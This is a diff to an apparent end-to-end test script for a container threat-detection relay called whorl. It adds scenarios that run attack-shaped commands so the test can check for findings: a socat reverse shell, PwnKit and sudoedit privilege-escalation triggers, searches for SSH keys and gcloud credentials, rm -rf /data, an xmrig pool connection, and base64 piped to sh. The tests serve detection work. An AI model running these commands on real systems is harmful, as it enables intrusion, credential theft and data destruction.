@@ -11,7 +11,7 @@ EXEC_LOG=$E2E_TMP/exec.jsonl
 # whorl's rules are loaded as an installed relay loads them, by default, from the shipped rules
 # directory (here its copy, named by WHORL_RULES_DIR); one is switched off
 export WHORL_RULES_DIR=$RULES/whorl
-set -- --disable-rule gpg_key_reconnaissance
+set -- --disable-rule padded_environment
 [ -d "$RULES/sigmahq" ] && set -- "$@" --rules "$RULES/sigmahq"
 setup "$@" --exec-log "$EXEC_LOG"
 diag "rules: $(grep -i 'rules' "$E2E_TMP/relay.err" | head -n 4 | tr '\n' ' ')"
@@ -29,7 +29,7 @@ B64ELF="Defense Evasion: Base64 ELF File Command Line Execution"
 CHILD="Unexpected Child Shell"
 RCE="Execution: Possible Remote Command Execution Detected"
 URL="Malicious URL Observed"
-GPG="Discovery: GPG Key Reconnaissance"
+PADDED="Defense Evasion: Environment Too Large To Inspect"
 PROXY="Execution: Program Run with Disallowed HTTP Proxy Env"
 ELF_B64=f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA
 
@@ -68,6 +68,19 @@ listener_done() {
 	wait_progress sh -c "! kill -0 $1 2>/dev/null"
 	kill "$1" 2>/dev/null
 	wait "$1" 2>/dev/null
+}
+
+# attack RUN CATEGORY IMAGE CMD...: CMD run in the container gives a finding of CATEGORY for
+# the program IMAGE
+attack() {
+	local run=$1 category=$2 image=$3 from
+	shift 3
+	from=$(mark)
+	ctr "$C_ID" "$@" >/dev/null 2>&1
+	expect_finding "$run: $category" "$from" \
+		"$(printf 'category\t%s\nprocesses.0.binary.path\t%s\n' "$category" "$image"
+		container_fields)" \
+		"category=$(q "$category")" "containers.0.id=$C_ID" "processes.0.binary.path=$image"
 }
 
 scenarios() {
@@ -148,15 +161,6 @@ scenarios() {
 		container_fields)" \
 		"category=$(q "$URL")" "containers.0.id=$C_ID" "processes.0.binary.path=/usr/bin/curl"
 
-	# a rule switched off (--disable-rule) stays silent: the exec is judged, nothing reported
-	ctr_copy_in "$C_ID" "$E2E_DATA/hello" /tmp/gpg
-	from=$(mark)
-	ctr "$C_ID" /tmp/gpg --list-secret-keys >/dev/null
-	check_event "$3: the switched-off rule's exec was judged" Image /tmp/gpg \
-		whorl.ContainerId "$C_ID"
-	barrier "$C_ID"
-	expect_silence "$3: a_disabled_rule_is_silent" "$from" "category=$(q "$GPG")"
-
 	# an ELF header in base64 on a command line
 	from=$(mark)
 	ctr "$C_ID" /bin/sh -c "/bin/sh -c 'echo $ELF_B64 >/dev/null'; true"
@@ -189,11 +193,40 @@ scenarios() {
 	check_event "$3: the environment and working directory in the exec event" Image /usr/bin/id \
 		CurrentDirectory /tmp whorl.Env.HTTPS_PROXY http://10.0.0.9:3128 whorl.ContainerId "$C_ID"
 
-	# an environment padded past what the module reads cannot hide a variable in silence
+	# an environment padded past what the module reads cannot hide a variable in silence; the
+	# rule that reports it is switched off here (--disable-rule): judged, and silent
 	pad=$(head -c 70000 /dev/zero | tr '\0' x)
+	from=$(mark)
 	ctr "$C_ID" /usr/bin/env PAD="$pad" LD_PRELOAD=/tmp/hidden.so /usr/bin/true
 	check_event "$3: a padded environment is marked incomplete" Image /usr/bin/true \
 		whorl.EnvIncomplete true whorl.ContainerId "$C_ID"
+	barrier "$C_ID"
+	expect_silence "$3: a_disabled_rule_is_silent" "$from" "category=$(q "$PADDED")"
+
+	# the other detectors whorl ships rules for, each as an attacker types it; a tool the image
+	# lacks is a harmless program copied in under the tool's name, as for netcat. These rules read
+	# the command line and environment only, which no runtime changes: in runc's run alone.
+	if [ "$1" = runc ]; then
+		for tool in socat pkexec sudoedit gpg xmrig; do
+			ctr_copy_in "$C_ID" "$E2E_DATA/hello" "/tmp/$tool"
+		done
+		attack "$3" "Execution: Socat Reverse Shell Detected" /tmp/socat \
+			/tmp/socat exec:/bin/sh,pty,stderr,setsid tcp:10.0.0.9:4444
+		attack "$3" "Privilege Escalation: Polkit Local Privilege Escalation Vulnerability" \
+			/tmp/pkexec /usr/bin/env GCONV_PATH=. /tmp/pkexec
+		attack "$3" "Privilege Escalation: Sudo Potential Privilege Escalation" /tmp/sudoedit \
+			/tmp/sudoedit -s '\' AAAAAAAA
+		attack "$3" "Credential Access: Search Private Keys or Passwords" /usr/bin/find \
+			/usr/bin/find /root /etc -name id_rsa
+		attack "$3" "Credential Access: Find Google Cloud Credentials" /usr/bin/ls \
+			/usr/bin/ls -la /root/.config/gcloud
+		attack "$3" "Discovery: GPG Key Reconnaissance" /tmp/gpg /tmp/gpg --list-secret-keys
+		attack "$3" "Impact: Remove Bulk Data From Disk" /usr/bin/rm /usr/bin/rm -rf /data
+		attack "$3" "Execution: Cryptocurrency Mining Pool Connection" /tmp/xmrig \
+			/tmp/xmrig -o stratum+tcp://pool.example:3333 -u wallet
+		attack "$3" "Defense Evasion: Base64 Encoded Shell Script Executed" /usr/bin/dash \
+			/bin/sh -c 'echo IyEvYmluL3NoCmlkCg== | base64 -d | sh'
+	fi
 
 	# silence: a benign workload (a shell script that lists, reads, loops and sleeps; a package
 	# installed with dpkg, its maintainer script run; a web server serving curl and wget) with
@@ -204,6 +237,8 @@ scenarios() {
 	ctr "$C_ID" /bin/sh -c 'for i in 1 2 3; do ls / >/dev/null; cat /etc/os-release >/dev/null
 		id >/dev/null; uname -a >/dev/null; head -n 1 /etc/passwd >/dev/null; sleep 0.1; done
 		cd /tmp && mkdir -p work && cp /etc/passwd work/ && sha256sum work/passwd >/dev/null
+		grep -c "^root:" /etc/passwd >/dev/null; grep -rl PRETTY_NAME /etc >/dev/null
+		find /etc -name "*.conf" >/dev/null; find work -type f -newer /etc/os-release >/dev/null
 		rm -rf work' >/dev/null
 	# ... a package installed (dpkg runs its postinst through /bin/sh)
 	ctr "$C_ID" /usr/bin/dpkg -i /root/e2e-app.deb >/dev/null
